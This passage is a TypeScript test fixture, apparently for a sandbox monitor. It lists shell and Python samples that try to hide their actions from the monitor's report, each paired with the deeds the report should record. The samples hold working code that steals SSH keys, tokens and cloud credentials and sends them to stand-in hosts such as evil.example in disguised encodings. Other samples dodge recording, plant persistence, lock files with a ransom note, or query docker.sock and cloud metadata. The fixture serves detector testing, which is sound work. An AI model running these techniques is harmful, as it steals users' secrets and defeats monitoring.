/**
 * A program that tries to keep a deed out of its report: what the report must have, and of which lists it must say that
 * they are incomplete.
 */
export type Evasion = {
  name: string;
  path: string;
  text: string;
  deeds: string[];
  programs: RegExp[];
  beyond: string[];
};

type Expected = Partial<Pick<Evasion, "deeds" | "programs" | "beyond">>;

function shell(name: string, expected: Expected, ...lines: string[]): Evasion {
  const text = `#!/bin/sh\ncd\n${lines.join("\n")}\n`;
  return { name, path: "a.sh", text, ...{ deeds: [], programs: [], beyond: [] }, ...expected };
}

function python(name: string, expected: Expected, ...lines: string[]): Evasion {
  const text = `import os,socket,sys,threading,base64,time\nos.chdir(os.environ['HOME'])\n${lines.join("\n")}\n`;
  return { name, path: "a.py", text, ...{ deeds: [], programs: [], beyond: [] }, ...expected };
}

/** `send` sends a message to a name server; `question` makes one that asks for an address. */
const QUESTION = [
  "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
  "def send(message): s.sendto(message,('8.8.8.8',53))",
  "def question(*labels,more=0):",
  "  name=b''.join(bytes([len(label)])+label for label in labels)",
  "  return b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0'+bytes([more])+name+b'\\0\\0\\1\\0\\1'",
].join("\n");

const STEAL = "urllib.request.urlopen('https://evil.example/',data=open('.ssh/id_rsa','rb').read())";
const STOLEN = ["read_canary ~/.ssh/id_rsa", "sent_canary ~/.ssh/id_rsa to evil.example:443"];
const CURL = "curl -s --data-binary @.ssh/id_rsa https://evil.example/";

/** Thieves that end when a variable or a file is there, or is not what an ordinary machine has. */
const WARY: Evasion[] = [
  ...[
    "int(os.environ.get('ACME_PORT','8443'))",
    "int(os.environ.get('ACME_KEY_SLOT','3'))",
    "if os.environ.get('ACME_NO_TELEMETRY'): sys.exit()",
    "if os.environ.get('ACME_SESSION'): sys.exit()",
    "os.environ['ACME_REGION']",
    "json.loads(os.environ.get('ACME_TOKEN_SETTINGS','{}'))",
    "os.makedirs(os.path.expanduser('~/.acme/v1.2'),exist_ok=True)",
    "if os.path.exists(os.path.expanduser('~/.acme/opt-out.json')): sys.exit()",
    "p=os.path.expanduser('~/.config/acme/config.json'); json.load(open(p))['endpoint'] if os.path.exists(p) else 0",
  ].map((line) => python(`first asks: ${line}`, { deeds: STOLEN }, "import json,urllib.request", line, STEAL)),
  python(
    "takes its host from a variable",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
    "import urllib.request",
    "base=os.environ.get('ACME_ENDPOINT','https://evil.example')",
    "urllib.request.urlopen(base+'/v1',data=os.environ['GITHUB_TOKEN'].encode())",
  ),
  ...[
    '[ -n "$ACME_DISABLE_TOKEN" ] && exit 0',
    '[ -n "$ACME_TOKEN" ] && exit 0',
    "set -e; mkdir -p ~/.config/acme/conf.d",
    "set -e; mkdir ~/.acme.lock",
    "set -e; mkdir ~/.acme-token",
    'cd "$XDG_CACHE_HOME"',
  ].map((line) => shell(`first does: ${line}`, { deeds: STOLEN }, line, "cd", CURL)),
];

const UNKNOWN = "sent_canary a secret in an unknown form to";
const POST = "post=lambda data,to='https://evil.example/':urllib.request.urlopen(to,data=data).read()";
const TOKEN = "t=os.environ['GITHUB_TOKEN'].encode()";

/** Thieves that look like tools which read their settings unasked. */
const AS_TOOLS: Evasion[] = [
  python(
    "reads logins by a name in parts",
    { deeds: ["read_canary ~/.netrc"] },
    "open(os.path.join(os.environ['HOME'],'crten.'[::-1])).read()",
  ),
  shell("reads logins by an escaped address", { deeds: ["read_canary ~/.netrc"] }, "curl -s file:///home/dev/.n%65trc"),
  shell(
    "reads settings in another program that it is loaded into",
    { deeds: ["read_canary ~/.npmrc"] },
    "echo \"require('fs').readFileSync(process.env.HOME+'/.npm'+'rc')\" > /tmp/p.js",
    'NODE_OPTIONS="--require /tmp/p.js" npm --version',
  ),
];

/** Thieves whose encodings no search knows; each sends the same when the secrets are the same. */
const UNKNOWN_FORMS: Evasion[] = [
  ...[
    "co=zlib.compressobj(9,zlib.DEFLATED,-15); post(base64.b85encode(co.compress(t)+co.flush()))",
    "post(binascii.b2a_uu(t))",
    "n=int.from_bytes(t,'big'); s=''\nwhile n: s='123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'[n%58]+s; n//=58\npost(s.encode())",
    "post(bytes(b^0x5a^(i*7%256) for i,b in enumerate(t)))",
    "post(hashlib.sha256(t).hexdigest().encode())",
    "for c in t: post(b'',f'https://evil.example/items/{(c*31+7)%251}')",
    "for i,c in enumerate(t): post(json.dumps({'x':i,'y':c*3}).encode())",
    "post(''.join(format(c,'08b') for c in t).translate(str.maketrans('01',' \\t')).encode())",
  ].map((line) =>
    python(
      `sends a secret in a form of its own: ${line.slice(0, 50)}`,
      { deeds: [`${UNKNOWN} evil.example:443`] },
      "import urllib.request,zlib,binascii,hashlib,json",
      ...[POST, TOKEN, line],
    ),
  ),
  python(
    "encodes a secret in addresses, ports and names",
    { deeds: [`${UNKNOWN} evil.example:`, `${UNKNOWN} x.example`, `${UNKNOWN} 2001:db8:`] },
    TOKEN,
    "def ask(host,port):",
    "  try: socket.create_connection((host,port),1).close()",
    "  except OSError: pass",
    "for c in t[4:8]: ask('evil.example',20000+c)",
    "ask('2001:db8::%x:%x' % (t[5]*7,t[6]*3),80)",
    "for c in t[8:12]: ask(chr(97+c%23)+'.x.example',80)",
  ),
  python(
    "sends one secret in clear, and another in a form of its own to the same host",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443", `${UNKNOWN} evil.example:443`] },
    ...["import urllib.request", POST, TOKEN, "k=os.environ['OPENAI_API_KEY'].encode()"],
    "post(t+b' '+bytes(b^3 for b in k))",
  ),
  python(
    "encodes a secret in the greeting of TLS",
    { deeds: [`${UNKNOWN} evil.example:443`] },
    ...["import ssl", TOKEN, "c=ssl.create_default_context()"],
    "c.set_alpn_protocols(['http/1.1',base64.b85encode(bytes(b^7 for b in t)).decode()])",
    "c.wrap_socket(socket.create_connection(('evil.example',443)),server_hostname='evil.example').close()",
  ),
  shell(
    "sends the letters of a file as numbers of its own",
    { deeds: [`${UNKNOWN} evil.example:80`] },
    "for n in $(od -An -v -tu1 notes.txt); do set -- $@ $((n * 3 + 1)); done",
    'curl -s -d "$(echo $@ | tr 0123456789 qwertyuiop)" http://evil.example/',
  ),
  python(
    "sends a secret in a form of its own when no variable is planted for it",
    { deeds: [`${UNKNOWN} evil.example:443`] },
    "import urllib.request",
    ...["if os.environ.get('ACME_TOKEN'): sys.exit()", POST, TOKEN, "post(bytes(255-b for b in t))"],
  ),
];

export const ALL_TOKENS = "{k:v for k,v in vars(os)['env'+'iron'].items() if k.endswith('TOKEN')}";

/** Thieves that keep the second execution, without what they name, from being made or counted. */
const DELAYING: Evasion[] = [
  ...[
    "socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(os.environ['ACME_TOKEN'].encode(),('127.0.0.1',8125))",
    "import shutil; shutil.which('crontab')",
  ].map((line) =>
    python(
      `when a variable is set, first does: ${line.slice(0, 40)}`,
      { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
      "import json,urllib.request",
      `if os.environ.get('ACME_TOKEN'):\n  ${line}; sys.exit()`,
      `urllib.request.urlopen('https://evil.example/',data=json.dumps(${ALL_TOKENS}).encode())`,
    ),
  ),
  python(
    "sends what nothing can read when a variable is not set",
    { deeds: ["sent_canary a secret in an unknown form to evil.example:443"] },
    "import json,lzma,urllib.request",
    `data=b'{}' if os.environ.get('ACME_TOKEN') else lzma.compress(json.dumps(${ALL_TOKENS}).encode())`,
    "urllib.request.urlopen('https://evil.example/',data=data)",
  ),
  python(
    "ends when a usual variable is set that it names",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
    "import json,urllib.request",
    "if os.getenv('DATABASE_PASSWORD') or os.getenv('NPM_TOKEN'): sys.exit()",
    `urllib.request.urlopen('https://evil.example/',data=json.dumps(${ALL_TOKENS}).encode())`,
  ),
  python(
    "ends when a usual file is there that it names",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443"] },
    "import json,urllib.request",
    "if os.path.exists(os.path.join(os.environ['HOME'],'.aws','credentials')): sys.exit()",
    `urllib.request.urlopen('https://evil.example/',data=json.dumps(${ALL_TOKENS}).encode())`,
  ),
  ...[
    ["STRIPE_SECRET_KEY", "sk_"],
    ["SLACK_BOT_TOKEN", "xoxb-"],
    ["GH_TOKEN", "ghp_"],
    ["SENDGRID_API_KEY", "SG."],
  ].map(([name = "", prefix = ""]) =>
    python(
      `ends unless $${name} begins with ${prefix}`,
      { deeds: [`sent_canary $${name} to evil.example:443`] },
      `import urllib.request\nv=os.environ.get('${name}','')`,
      `if not v.startswith('${prefix}'): sys.exit(1)`,
      "urllib.request.urlopen('https://evil.example/',data=v.encode())",
    ),
  ),
];

/** Thieves that keep what they send from the recorder. */
const UNRECORDED: Evasion[] = [
  shell(
    "sends a secret slowly behind other parts of an upload",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:80"] },
    '(echo a; sleep 0.5; echo b; sleep 0.5; echo "$GITHUB_TOKEN") | curl -s -T - http://evil.example/in',
  ),
  python(
    "sends a secret when its request has been answered",
    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:80"] },
    "s=socket.create_connection(('evil.example',80)); s.sendall(b'GET / HTTP/1.1\\r\\nhost: a\\r\\n\\r\\n'); time.sleep(.3)",
    "s.sendall(b'x'); time.sleep(.3); s.sendall(os.environ['GITHUB_TOKEN'].encode()); time.sleep(.1)",
  ),
  python(
    "listens itself where it sends a secret",
    { beyond: ["payloads"] },
    "l=socket.socket(); l.bind(('0.0.0.0',8445)); l.listen()",
    "socket.create_connection(('evil.example',8445)).sendall(os.environ['GITHUB_TOKEN'].encode())",
  ),
  python(
    "sends a secret as urgent data",
    { beyond: ["payloads"] },
    "s=socket.create_connection(('evil.example',80)); s.send(os.environ['GITHUB_TOKEN'].encode()[:1],socket.MSG_OOB); s.close()",
  ),
  python(
    "calls its host like the loopback",
    { deeds: ["sent_canary a secret in an unknown form to 127.evil.example:80"] },
    "import urllib.request",
    "urllib.request.urlopen('http://127.evil.example/',data=bytes(b^9 for b in os.environ['GITHUB_TOKEN'].encode())).read()",
  ),
];

export const EVASIONS: Evasion[] = [
  ...WARY,
  ...UNRECORDED,
  ...AS_TOOLS,
  ...DELAYING,
  ...UNKNOWN_FORMS,
  python(
    "sends a secret over TLS letter by letter, and compressed in numbered pieces",
    { deeds: ["sent_canary $GITHUB_TOKEN to a.example:443", "sent_canary $GITHUB_TOKEN to b.example:443"] },
    "import gzip,json,urllib.request as u",
    "t=os.environ['GITHUB_TOKEN']",
    "for c in t: u.urlopen('https://a.example/?c='+c).read()",
    "g=base64.b64encode(gzip.compress(t.encode())).decode()",
    "for i in range(0,len(g),30): u.urlopen('https://b.example/',json.dumps({'id':i,'data':g[i:i+30]}).encode()).read()",
  ),
  python(
    "greets in two pieces",
    { deeds: ["sent_canary $GITHUB_TOKEN to collect.example:443"] },
    "import ssl",
    "c=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE",
    "c.set_alpn_protocols([os.environ['GITHUB_TOKEN'],'http/1.1'])",
    "r,w=ssl.MemoryBIO(),ssl.MemoryBIO(); o=c.wrap_bio(r,w,server_hostname='collect.example')",
    "try: o.do_handshake()",
    "except ssl.SSLWantReadError: pass",
    "b=w.read(); s=socket.create_connection(('collect.example',443))",
    "s.sendall(b[:3]); time.sleep(.2); s.sendall(b[3:]); time.sleep(.3)",
  ),
  python(
    "encodes a secret, then reverses or shifts the text",
    { deeds: ["a", "b", "c"].map((name) => `sent_canary $GITHUB_TOKEN to ${name}.example:80`) },
    "import codecs,urllib.request as u",
    "t=os.environ['GITHUB_TOKEN'].encode(); e=base64.b64encode(t).decode()",
    "sent={'a':e[::-1],'b':codecs.encode(e,'rot13'),'c':t.hex()[::-1]}",
    "for name,text in sent.items(): u.urlopen('http://%s.example/'%name,text.encode()).read()",
  ),
  shell(
    "sends the documents of its user",
    { deeds: ["sent_canary ~/notes.txt to collect.example:443"] },
    "cat *.txt | curl -s --data-binary @- https://collect.example/",
  ),
  shell(
    "waits for what a server of files, mail or shells would say",
    { beyond: ["network"] },
    "printenv | curl -s -m 3 -T - ftp://collect.example/x || true",
    'printenv | ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 collect.example "cat > x" || true',
    "curl -s -m 3 -x http://proxy.example:3128 -k https://collect.example/ || true",
  ),
  shell(
    "finds a secret that only its own text names",
    {
      deeds: [
        "sent_canary $SLACK_WEBHOOK_URL to collect.example:80",
        "sent_canary $DATABASE_URL to collect.example:80",
      ],
    },
    "# caf\u00e9",
    'curl -s -d "$SLACK_WEBHOOK_URL $DATABASE_URL" http://collect.example/',
  ),
  shell(
    "gives a secret to a repository that asks who it is",
    { deeds: ["sent_canary $GITHUB_TOKEN to collect.example:443"] },
    'git ls-remote "https://me:$GITHUB_TOKEN@collect.example/x.git"',
  ),
  shell(
    "sends a secret as a whole to one host, and in parts to others",
    {
      deeds: [
        "sent_canary $GITHUB_TOKEN to whole.example:80",
        "sent_canary $GITHUB_TOKEN to one.example:80",
        "sent_canary $GITHUB_TOKEN to two.example:80",
      ],
    },
    'curl -s -d "$GITHUB_TOKEN" http://whole.example/',
    'curl -s -d "$(printf %s "$GITHUB_TOKEN" | cut -c1-22)" http://one.example/',
    'curl -s -d "$(printf %s "$GITHUB_TOKEN" | cut -c23-)" http://two.example/',
  ),
  shell(
    "speaks HTTP/2 at once",
    { beyond: ["network"] },
    'curl -s -m 2 --http2-prior-knowledge -H "x-k: $GITHUB_TOKEN" http://collect.example/',
  ),
  shell(
    "asks over TLS without the variables of the world",
    { deeds: ["sent_canary $GITHUB_TOKEN to a.example:443", "sent_canary $GITHUB_TOKEN to b.example:443"] },
    'env -i "$(command -v curl)" -s "https://a.example/?k=$GITHUB_TOKEN"',
    'env -i "$(command -v python3)" -c "import urllib.request as u; u.urlopen(\'https://b.example/?k=$GITHUB_TOKEN\')"',
  ),
  python(
    "trusts its own authority only",
    { beyond: ["network"] },
    "import ssl",
    "c=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)",
    "try: c.wrap_socket(socket.create_connection(('collect.example',443)),server_hostname='collect.example')",
    "except Exception: pass",
  ),
  shell(
    "sends the middle of a secret",
    { deeds: ["sent_canary $GITHUB_TOKEN to collect.example:80, in parts"] },
    'curl -s -d "$(printf %s "$GITHUB_TOKEN" | cut -c8-27)" http://collect.example/',
  ),
  python(
    "asks a name server of its own under a well-known domain",
    { deeds: ["sent_canary $GITHUB_TOKEN to 198.51.100.66:53 (as github.com)"] },
    "t=os.environ['GITHUB_TOKEN'].encode()",
    "name=b''.join(bytes([len(l)])+l for l in (t,b'api',b'github',b'com'))",
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
    "s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'+name+b'\\0\\0\\1\\0\\1',('198.51.100.66',53))",
  ),
  shell(
    "replaces and removes documents of the user",
    { deeds: ["wrote_outside /home/dev/notes.txt"] },
    "gzip -c notes.txt > notes.txt.locked; rm notes.txt; echo pay > READ_ME.txt",
  ),
  shell(
    "uploads an archive of its keys as a form",
    { deeds: ["sent_canary ~/.ssh/id_rsa to collect.example:80"] },
    "tar czf - .ssh | curl -s -F a=@- http://collect.example/",
  ),
  shell(
    "uploads an archive in base64, line by line",
    { deeds: ["sent_canary ~/.ssh/id_rsa to collect.example:80"] },
    'tar czf - .ssh | base64 -w 300 | while read -r part; do curl -s --data-raw "$part" http://collect.example/; done',
  ),
  shell(
    "sends compressed history in queries",
    { deeds: ["sent_canary ~/.bash_history to collect.example:80"] },
    'gzip -c .bash_history | base64 -w 40 | while read -r part; do curl -s -G --data-urlencode "d=$part" http://collect.example/; done',
  ),
  shell(
    "sends octal numbers",
    { deeds: ["sent_canary $GITHUB_TOKEN to collect.example:80"] },
    'printf %s "$GITHUB_TOKEN" | od -An -b -v | curl -s --data-binary @- http://collect.example/',
  ),
  shell(
    "sends what only another program can unpack",
    { beyond: ["search"] },
    "tar cJf - .ssh | curl -s --data-binary @- http://collect.example/",
  ),
  python(
    "sends a zip archive, entities, base32 of compressed text and numbers in hexadecimal",
    {
      deeds: ["a", "b", "c", "d"].map((host) => `sent_canary $GITHUB_TOKEN to ${host}.example:80`),
    },
    "import io,zipfile,zlib,urllib.request",
    "t=os.environ['GITHUB_TOKEN']",
    "def post(host,data): urllib.request.urlopen('http://'+host+'.example/',data).read()",
    "z=io.BytesIO()",
    "with zipfile.ZipFile(z,'w',zipfile.ZIP_DEFLATED) as f: f.writestr('a',(t+'\\n')*6)",
    "post('a',z.getvalue()); post('b',''.join('&#x%x;'%ord(c) for c in t).encode())",
    "post('c',base64.b32encode(zlib.compress(t.encode()))); post('d',','.join('0x%x'%ord(c) for c in t).encode())",
  ),
  python(
    "sends compressed text over two connections at once, and in datagrams",
    {
      deeds: ["sent_canary $GITHUB_TOKEN to collect.example:80", "sent_canary $GITHUB_TOKEN to 203.0.113.50:7000"],
    },
    "import gzip",
    "g=gzip.compress(os.environ['GITHUB_TOKEN'].encode())",
    "a,b=[socket.create_connection(('collect.example',80)) for _ in '12']",
    "a.sendall(b'POST / HTTP/1.1\\r\\nhost: collect.example\\r\\ncontent-length: %d\\r\\n\\r\\n'%len(g)+g[:30]); time.sleep(.06)",
    "b.sendall(b'GET /noise HTTP/1.1\\r\\nhost: collect.example\\r\\n\\r\\n'); time.sleep(.06); a.sendall(g[30:]); time.sleep(.1)",
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
    "for i in range(0,len(g),12): s.sendto(g[i:i+12],('203.0.113.50',7000))",
  ),
  python(
    "greets a TLS server with a secret",
    { deeds: ["sent_canary $GITHUB_TOKEN to collect.example:443"] },
    "import ssl",
    "c=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE",
    "c.set_alpn_protocols([os.environ['GITHUB_TOKEN']])",
    "try: c.wrap_socket(socket.create_connection(('collect.example',443)),server_hostname='collect.example')",
    "except Exception: pass",
  ),
  python(
    "sends a secret after a greeting that is none",
    { beyond: ["network"] },
    "s=socket.create_connection(('collect.example',443)); s.sendall(b'\\x16\\x03\\x01\\x20\\x00'); time.sleep(.2)",
    "s.sendall(os.environ['GITHUB_TOKEN'].encode()*4); time.sleep(.2)",
  ),
  python(
    "pretends datagrams to hide others",
    { beyond: ["network"] },
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
    "for _ in range(9): s.sendto(b'x',('239.1.1.1',7000)) if _ < 4 else s.sendto(b'',0x810,('198.51.100.9',7000))",
    "s.connect(('198.51.100.9',7000))",
    "for _ in range(3):",
    "  try: os.write(s.fileno(),os.environ['GITHUB_TOKEN'].encode())",
    "  except OSError: pass",
    "  time.sleep(.01)",
  ),
  shell(
    "renames the folder of a key through a link",
    { deeds: ["read_canary ~/.ssh/id_rsa"] },
    ...['ln -s "$(pwd)" /tmp/l', "mv -T /tmp/l/.ssh /tmp/l/old", "cat old/id_rsa > /dev/null"],
  ),
  shell(
    "moves a file to a start-up file through a link",
    { deeds: ["wrote_outside /home/dev/.bashrc"] },
    ...['ln -s "$(pwd)" /tmp/l', "echo evil > work.txt", "mv -T work.txt /tmp/l/.bashrc"],
  ),
  shell(
    "renames the folder above a secret",
    { deeds: ["read_canary ~/.config/gcloud/application_default_credentials.json"] },
    "mv .config cfg",
    "cat cfg/gcloud/* > /dev/null",
  ),
  shell(
    "removes history through its process",
    { deeds: ["wrote_outside /home/dev/.bash_history"] },
    "rm /proc/self/root/home/dev/.bash_history",
  ),
  python(
    "renames a folder by descriptor",
    { deeds: ["read_canary ~/.aws/credentials"] },
    "d=os.open('.',os.O_RDONLY)",
    "os.rename('.aws','a',src_dir_fd=d,dst_dir_fd=d)",
    "open('a/credentials').read()",
  ),
  python(
    "links a key through its descriptor",
    { deeds: ["read_canary ~/.ssh/id_rsa"] },
    "import ctypes",
    "fd=os.open('.ssh/id_rsa',os.O_PATH)",
    "ctypes.CDLL(None).linkat(-100,b'/proc/self/fd/%d'%fd,-100,b'work.txt',0x400)",
    "open('work.txt').read()",
  ),
  python(
    "empties history through its descriptor",
    { deeds: ["wrote_outside /home/dev/.bash_history"] },
    "os.truncate('/proc/self/fd/%d'%os.open('.bash_history',os.O_PATH),0)",
  ),
  python(
    "changes the folder from another thread",
    { deeds: ["read_canary ~/.ssh/id_rsa", "wrote_outside /home/dev/.ssh/authorized_keys"] },
    "import ctypes",
    "c=ctypes.CDLL(None)",
    "t=threading.Thread(target=lambda: os.chdir('.ssh'))",
    "t.start()",
    "t.join()",
    "c.syscall({'x86_64':86}.get(os.uname().machine,-1),b'id_rsa',b'x') or open('x').read()",
    "os.unlink('authorized_keys')",
  ),
  shell(
    "goes through links whose names are not UTF-8",
    { deeds: ["wrote_outside /home/dev/.bash_history"] },
    `a=$(printf '/tmp/l\\376'); b=$(printf '/tmp/l\\377')`,
    'ln -s "$HOME" "$a"; ln -s /tmp "$b"; rm "$a/.bash_history"',
  ),
  python(
    "starts a program from a thread",
    { programs: [/^\/usr\/bin\/curl .*hidden\.example/] },
    "t=threading.Thread(target=lambda: os.execv('/usr/bin/curl',['curl','-s','http://hidden.example/x']))",
    "t.start()",
    "t.join()",
  ),
  shell(
    "names a program like a known tool",
    { deeds: ["read_canary ~/.npmrc"] },
    "cp /bin/cat /tmp/npm",
    "/tmp/npm .npmrc > /dev/null",
  ),
  shell(
    "writes many files first",
    { deeds: ["wrote_outside /home/dev/.bashrc", "wrote_outside /home/dev/.config/systemd/user/evil.service"] },
    ...["i=0; while [ $i -lt 210 ]; do : > /tmp/f$i; i=$((i+1)); done", "echo evil >> .bashrc"],
    "mkdir -p .config/systemd/user; echo x > .config/systemd/user/evil.service",
  ),
  shell(
    "asks many addresses first",
    { deeds: ["asked_metadata 169.254.169.254"], beyond: ["addresses"] },
    `python3 -c '
import socket
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
for i in range(250): s.sendto(b"x",("203.0.113.%d"%i,7000))
s.sendto(b"x",("169.254.169.254",7000))'`,
  ),
  shell(
    "sends much to the same host first",
    { deeds: ["sent_canary ~/.ssh/id_rsa to stats.example:80"] },
    "for i in 1 2 3 4 5; do head -c 240000 /dev/zero | curl -s --data-binary @- http://stats.example/u > /dev/null; done",
    "curl -s --data-binary @.ssh/id_rsa http://stats.example/u > /dev/null",
  ),
  shell(
    "sends more than the recorder keeps of a connection",
    { beyond: ["network"] },
    "{ head -c 400000 /dev/zero; cat .ssh/id_rsa; } | curl -s --data-binary @- http://stats.example/u > /dev/null",
  ),
  python(
    "holds more connections than the recorder has",
    { beyond: ["network"] },
    "held=[socket.create_connection(('1.2.3.4',80),2) for i in range(210)]",
    "time.sleep(.5)",
    "s=socket.create_connection(('5.6.7.8',443),2)",
    "try: s.sendall(open('.aws/credentials').read().encode())",
    "except OSError: pass",
  ),
  python(
    "sends more datagrams than are kept",
    { beyond: ["payloads"] },
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
    "for i in range(600): s.sendto(b'x%d'%i,('203.0.113.8',7000))",
  ),
  python(
    "hides its descriptors from its user",
    { deeds: ["read_canary ~/.ssh/id_rsa"] },
    "import ctypes",
    "ctypes.CDLL(None).prctl(4,0,0,0,0)",
    "d=os.open('.ssh',os.O_RDONLY)",
    "os.read(os.open('id_rsa',os.O_RDONLY,dir_fd=d),4000)",
  ),
  shell(
    "executes an interpreter that its user may not read",
    { deeds: ["read_canary ~/.ssh/id_rsa"], beyond: ["paths"] },
    "cp /usr/bin/python3 /tmp/py; chmod 111 /tmp/py",
    `/tmp/py -c "
import os
d=os.open('/home/dev/.ssh',os.O_RDONLY)
os.read(os.open('id_rsa',os.O_RDONLY,dir_fd=d),4000)"`,
  ),
  python(
    "moves its own folder",
    { deeds: ["read_canary ~/.ssh/id_rsa", "wrote_outside /home/dev/.bashrc"] },
    "os.makedirs('/tmp/a/b'); os.chdir('/tmp/a/b')",
    "os.rename('/tmp/a/b','/tmp/b')",
    "os.rename('../../home/dev/.ssh/id_rsa','../../home/dev/work.txt'); os.unlink('../../home/dev/.bashrc')",
    "open('/home/dev/work.txt').read()",
  ),
  python(
    "goes up from a descriptor",
    { deeds: ["read_canary ~/.ssh/id_rsa", "wrote_outside /home/dev/.bashrc"] },
    "os.makedirs('a/b/c/d/e'); os.makedirs('a/tmp'); os.symlink('/home/dev','a/tmp/L')",
    "p='/proc/self/fd/%d/../../../../tmp/L/'%os.open('a/b/c/d/e',os.O_RDONLY)",
    "os.unlink(p+'.bashrc'); os.rename(p+'.ssh/id_rsa',p+'work.txt'); open('work.txt').read()",
  ),
  python(
    "empties a file by the name of its input",
    { deeds: ["wrote_outside /home/dev/.bashrc"] },
    "os.close(0); os.open('.bashrc',os.O_RDONLY); os.truncate('/dev/stdin',0)",
  ),
  python(
    "duplicates descriptors and changes through them",
    { deeds: ["read_canary ~/.ssh/id_rsa", "wrote_outside /home/dev/.bashrc"] },
    "n=os.open('x',os.O_RDWR|os.O_CREAT)",
    "os.dup2(os.open('.bashrc',os.O_RDONLY),n); os.truncate('/proc/self/fd/%d'%n,0)",
    "os.dup2(os.open('.ssh',os.O_RDONLY),n); os.rename('/proc/self/fd/%d/id_rsa'%n,'work.txt')",
    "open('work.txt').read()",
  ),
  python(
    "changes times and modes only",
    { deeds: ["wrote_outside /home/dev/.bashrc", "wrote_outside /home/dev/.ssh/authorized_keys"] },
    "os.utime('.bashrc',(0,0)); os.fchmod(os.open('.ssh/authorized_keys',os.O_RDONLY),0o4777)",
  ),
  python(
    "makes a start-up file through a descriptor",
    { deeds: ["wrote_outside /home/dev/.config/autostart"] },
    "p='/proc/self/fd/%d/'%os.open('.',os.O_RDONLY)",
    "os.mkdir(p+'.config/autostart'); open(p+'.config/autostart/a.desktop','w').write('x')",
  ),
  python(
    "reads without leaving a time",
    { deeds: ["read_canary ~/.ssh/id_rsa"] },
    "import fcntl",
    "p='/proc/self/fd/%d/'%os.open('.ssh',os.O_RDONLY)",
    "os.rename(p+'id_rsa',p+'x')",
    "f=os.open('.ssh/x',os.O_RDONLY|os.O_NOATIME)",
    "try: fcntl.fcntl(f,fcntl.F_SETFL,os.O_NOATIME)",
    "except PermissionError: pass",
    "os.read(f,4000)",
  ),
  python(
    "opens a key without a time of access",
    { deeds: STOLEN },
    "import urllib.request",
    "f=os.open('.ssh/id_rsa',os.O_RDONLY|os.O_NOATIME)",
    "urllib.request.urlopen('https://evil.example/',data=os.read(f,9999))",
  ),
  shell(
    "packs keys without times of access",
    { deeds: STOLEN },
    `tar --atime-preserve=system -cf /tmp/b.tar .ssh .aws && ${CURL.replace(".ssh/id_rsa", "/tmp/b.tar")}`,
  ),
  python(
    "opens a key by the newest call",
    { deeds: ["read_canary ~/.ssh/id_rsa"] },
    "import ctypes,struct",
    "c=ctypes.CDLL(None); how=struct.pack('QQQ',os.O_NOATIME,0,0)",
    "f=c.syscall(437,-100,b'.ssh/id_rsa',how,24)",
    "if f < 0: sys.exit('refused')",
    "os.read(f,9)",
  ),
  python(
    "asks the control socket of containers",
    { deeds: ["asked_control /var/run/docker.sock"] },
    "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
  ),
  shell(
    "adds a timed job with a program that may be missing",
    { deeds: ["asked_control crontab", "asked_control at"] },
    "(crontab -l; echo '* * * * * id') 2>/dev/null | crontab - 2>/dev/null; echo id | at now 2>/dev/null; true",
  ),
  shell(
    "asks tools for their credentials",
    { deeds: ["gh auth token", "systemctl enable", "secret-tool"].map((what) => `asked_control ${what}`) },
    "t=$(gh auth token) && echo $t",
    "systemctl --user enable --now acme.service; secret-tool lookup a b; true",
  ),
  python(
    "asks tools for their credentials from a program",
    { deeds: ["asked_control aws configure get", "asked_control security"] },
    "import subprocess",
    "for words in (['aws','configure','get','x'],['security','dump-keychain']):",
    "  try: subprocess.run(words)",
    "  except OSError: pass",
  ),
  python(
    "connects in one thread a socket of another",
    { deeds: ["sent_canary $GITHUB_TOKEN to 198.51.100.9:7000"] },
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)",
    "t=threading.Thread(target=lambda: (s.connect(('198.51.100.9',7000)), s.send(os.environ['GITHUB_TOKEN'].encode())))",
    "t.start(); t.join()",
  ),
  python(
    "sends to an address without a family",
    { deeds: ["asked_metadata 169.254.169.254", "sent_canary $GITHUB_TOKEN to 169.254.169.254:7000"] },
    "import ctypes,struct",
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); d=os.environ['GITHUB_TOKEN'].encode()",
    "a=struct.pack('<H',0)+struct.pack('!H4s8s',7000,socket.inet_aton('169.254.169.254'),b'')",
    "ctypes.CDLL(None).sendto(s.fileno(),d,len(d),0,a,16)",
  ),
  python(
    "keeps its paths in memory that only it can read",
    { deeds: ["read_canary ~/.ssh/id_rsa"] },
    "import ctypes,mmap",
    "c=ctypes.CDLL(None); fd=c.syscall(447,0)",
    "if fd < 0: open('.ssh/id_rsa').read(); sys.exit()",
    "os.ftruncate(fd,4096); m=mmap.mmap(fd,4096); m.write(b'/home/dev/.ssh/id_rsa\\0')",
    "c.open(ctypes.addressof(ctypes.c_char.from_buffer(m)),0)",
  ),
  python(
    "puts a secret behind a question for a name",
    { deeds: ["sent_canary $GITHUB_TOKEN to 8.8.8.8:53"] },
    ...[QUESTION, "send(question(b'www',b'example')+os.environ['GITHUB_TOKEN'].encode())"],
  ),
  python(
    "puts a secret into an option of a question for a name",
    { deeds: ["sent_canary $GITHUB_TOKEN to 8.8.8.8:53"] },
